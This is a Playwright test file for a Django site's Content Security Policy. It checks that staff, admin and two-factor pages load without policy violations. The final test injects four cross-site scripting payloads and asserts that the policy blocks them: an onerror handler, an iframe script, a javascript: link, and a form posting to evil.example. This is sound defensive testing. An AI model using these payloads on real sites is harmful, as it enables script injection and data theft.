"""The policy in a browser: every kind of page works under it, and what somebody smuggles in does not."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from conftest import Served
from huiying.demo.filling import PASSWORD

pytestmark = pytest.mark.browser

#: Keeps what the browser refused, from before the first script of a page runs.
WATCH = """
document.addEventListener("securitypolicyviolation", (event) => {
  (window.refused ||= []).push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
});
"""
OPEN = ["/", "/file/", "/find/", "/no-such-page/"]
STAFF = [
    *("/staff/", "/staff/search/", "/staff/sessions/", "/accounts/2fa/", "/accounts/2fa/totp/activate/"),
    *("/accounts/password/change/", "/admin/", "/admin/password_change/", "/admin/directory/staff/"),
    *("/admin/directory/staff/add/", "/admin/directory/staff/1/change/", "/admin/directory/staff/1/history/"),
    *("/admin/directory/post/add/", "/admin/directory/unit/", "/admin/directory/unit/?_popup=1", "/admin/no-such/"),
    *("/admin/directory/duty/", "/admin/directory/duty/?q=01", "/admin/directory/area/", "/admin/jsi18n/"),
]


@pytest.fixture(scope="module")
def page(browser: Browser, served: Served) -> Iterator[Page]:
    window = browser.new_context(base_url=served.url, locale="zh-CN")
    window.add_init_script(WATCH)
    page = window.new_page()
    for path in OPEN:
        check(page, path)
    page.goto("/accounts/login/?next=/staff/")
    page.fill("[name=login]", "guandang")
    page.fill("[name=password]", PASSWORD)
    page.click("main form button")
    page.wait_for_url("**/staff/")
    page.goto("/accounts/2fa/totp/activate/")  # which asks for the password again
    check(page, page.url)
    page.fill("[name=password]", PASSWORD)
    page.click("main form button")
    page.wait_for_url("**/totp/activate/")
    yield page
    window.close()


def check(page: Page, path: str) -> None:
    page.goto(path)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.refused || []") == [], path


@pytest.mark.parametrize("path", STAFF)
def test_no_page_of_ours_or_djangos_needs_what_the_policy_refuses(page: Page, path: str) -> None:
    check(page, path)


def test_the_second_factors_square_is_drawn(page: Page) -> None:
    page.goto("/accounts/2fa/totp/activate/")
    assert page.evaluate("[...document.images].map((image) => image.naturalWidth > 0)") == [True]


def test_admins_popups_still_hand_back_what_was_chosen(page: Page) -> None:
    page.goto("/admin/directory/post/add/")
    with page.expect_popup() as opened:
        page.click("#lookup_id_unit")
    opened.value.click("#result_list tbody a >> nth=0")
    page.wait_for_function("() => document.querySelector('#id_unit').value !== ''")


@pytest.mark.parametrize(
    "smuggled",
    [
        "<img src=x onerror='window.ran = 1'>",
        "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
        "<a id=bait href='javascript:window.ran = 1'>x</a>",
        "<form id=leak action='https://evil.example/'><input name=q></form>",
    ],
)
def test_what_is_smuggled_into_a_page_does_nothing(page: Page, smuggled: str) -> None:
    page.goto("/")
    page.evaluate("html => { document.querySelector('main').insertAdjacentHTML('beforeend', html) }", smuggled)
    page.evaluate("() => { document.querySelector('#bait')?.click(); document.querySelector('#leak')?.submit() }")
    page.frames[-1].wait_for_function("() => (window.refused || []).length > 0")
    assert page.evaluate("window.ran") is None
    assert page.url.endswith("/")
